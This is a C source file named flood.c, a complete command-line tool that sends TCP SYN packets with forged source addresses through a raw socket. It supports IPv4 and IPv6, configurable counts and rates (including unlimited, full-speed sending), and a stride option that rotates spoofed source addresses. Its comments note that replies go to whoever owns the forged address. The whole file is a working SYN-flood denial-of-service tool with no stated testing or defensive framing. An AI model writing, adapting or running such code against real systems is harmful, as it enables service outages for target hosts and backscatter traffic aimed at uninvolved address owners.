// SPDX-License-Identifier: GPL-2.0-only
/*
 * flood.c - SYNs with any source address one likes
 *
 *	flood SOURCE DESTINATION PORT COUNT [PER-SECOND [STRIDE]]
 *
 * Sent through a raw socket, so that no socket of this host knows of them: what answers comes back
 *to whoever owns the address. Source ports go round; PER-SECOND 0 or none: as fast as it goes.
 *COUNT 0: until it is killed. With a STRIDE (IPv4) each SYN comes from a source that much further on.
 *Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct pseudo6 {
	struct in6_addr source, destination;
	uint32_t length, next;
};

static volatile sig_atomic_t stop;

static void on_signal(int number)
{
	(void)number;
	stop = 1;
}

static uint32_t sum(uint32_t start, const void *data, size_t size)
{
	const uint8_t *byte = data;

	for (size_t i = 0; i + 1 < size; i += 2)
		start += (uint32_t)(byte[i] << 8 | byte[i + 1]);
	return start;
}

static uint16_t folded(uint32_t n)
{
	while (n >> 16)
		n = (n & 0xffff) + (n >> 16);
	return htons((uint16_t)~n);
}

/* Returns the packet's length. */
static size_t make(uint8_t packet[64], int family, const void *source, const void *destination)
{
	size_t head = family == AF_INET ? 20 : 40;

	memset(packet, 0, 64);
	if (family == AF_INET) {
		packet[0] = 0x45;
		packet[3] = 40;
		packet[8] = 64;
		packet[9] = IPPROTO_TCP;
		memcpy(packet + 12, source, 4);
		memcpy(packet + 16, destination, 4);
	} else {
		packet[0] = 0x60;
		packet[5] = 20;
		packet[6] = IPPROTO_TCP;
		packet[7] = 64;
		memcpy(packet + 8, source, 16);
		memcpy(packet + 24, destination, 16);
	}
	return head + sizeof(struct tcphdr);
}

static void fill(uint8_t packet[64], int family, uint16_t port, uint32_t number)
{
	size_t head = family == AF_INET ? 20 : 40;
	struct tcphdr *tcp = (struct tcphdr *)(packet + head);
	uint32_t n = sum(IPPROTO_TCP + sizeof(*tcp), packet + (family == AF_INET ? 12 : 8),
			 family == AF_INET ? 8 : 32);

	memset(tcp, 0, sizeof(*tcp));
	tcp->source = htons((uint16_t)(1024 + number % 60000));
	tcp->dest = htons(port);
	tcp->seq = htonl(number * 2654435761u);
	tcp->doff = 5;
	tcp->syn = 1;
	tcp->window = htons(64240);
	tcp->check = folded(sum(n, tcp, sizeof(*tcp)));
}

static int send_all(int fd, int family, const char *argv[], uint64_t count, uint64_t rate,
		    uint32_t stride)
{
	struct timespec pause = {.tv_nsec = 1000000};
	struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
	struct sockaddr_in to4 = {.sin_family = AF_INET};
	struct timespec begin, now;
	uint8_t source[16], packet[64];
	uint64_t sent = 0;
	uint32_t first;
	size_t size;

	if (inet_pton(family, argv[1], source) != 1 ||
	    inet_pton(family, argv[2],
		      family == AF_INET ? (void *)&to4.sin_addr : &to6.sin6_addr) != 1) {
		fprintf(stderr, "flood: addresses of one family, please\n");
		return 2;
	}
	size = make(packet, family, source,
		    family == AF_INET ? (void *)&to4.sin_addr : &to6.sin6_addr);
	memcpy(&first, source, sizeof(first));
	first = ntohl(first);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	while (!stop && (!count || sent < count)) {
		if (rate) {
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (sent >= (uint64_t)((now.tv_sec - begin.tv_sec) * 1000 +
					       (now.tv_nsec - begin.tv_nsec) / 1000000 + 1) *
						    rate / 1000 +
					    1) {
				nanosleep(&pause, NULL);
				continue;
			}
		}
		if (stride) {
			uint32_t next = htonl(first + (uint32_t)sent * stride);

			memcpy(packet + 12, &next, sizeof(next));
		}
		fill(packet, family, (uint16_t)atoi(argv[3]), (uint32_t)sent);
		if (sendto(fd, packet, size, 0, family == AF_INET ? (void *)&to4 : &to6,
			   family == AF_INET ? sizeof(to4) : sizeof(to6)) < 0) {
			nanosleep(&pause, NULL);
			if (!rate)
				continue;
		}
		sent++;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}

int main(int argc, char **argv)
{
	struct sigaction action = {.sa_handler = on_signal};
	int family, fd, on = 1;

	if (argc < 5)
		return 2;
	family = strchr(argv[1], ':') ? AF_INET6 : AF_INET;
	fd = socket(family, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6,
				 family == AF_INET ? IP_HDRINCL : IPV6_HDRINCL, &on, sizeof(on))) {
		perror("flood: raw socket");
		return 1;
	}
	sigaction(SIGTERM, &action, NULL);
	sigaction(SIGINT, &action, NULL);
	return send_all(fd, family, (const char **)argv, strtoull(argv[4], NULL, 10),
			argc > 5 ? strtoull(argv[5], NULL, 10) : 0,
			argc > 6 ? (uint32_t)strtoul(argv[6], NULL, 10) : 0);
}
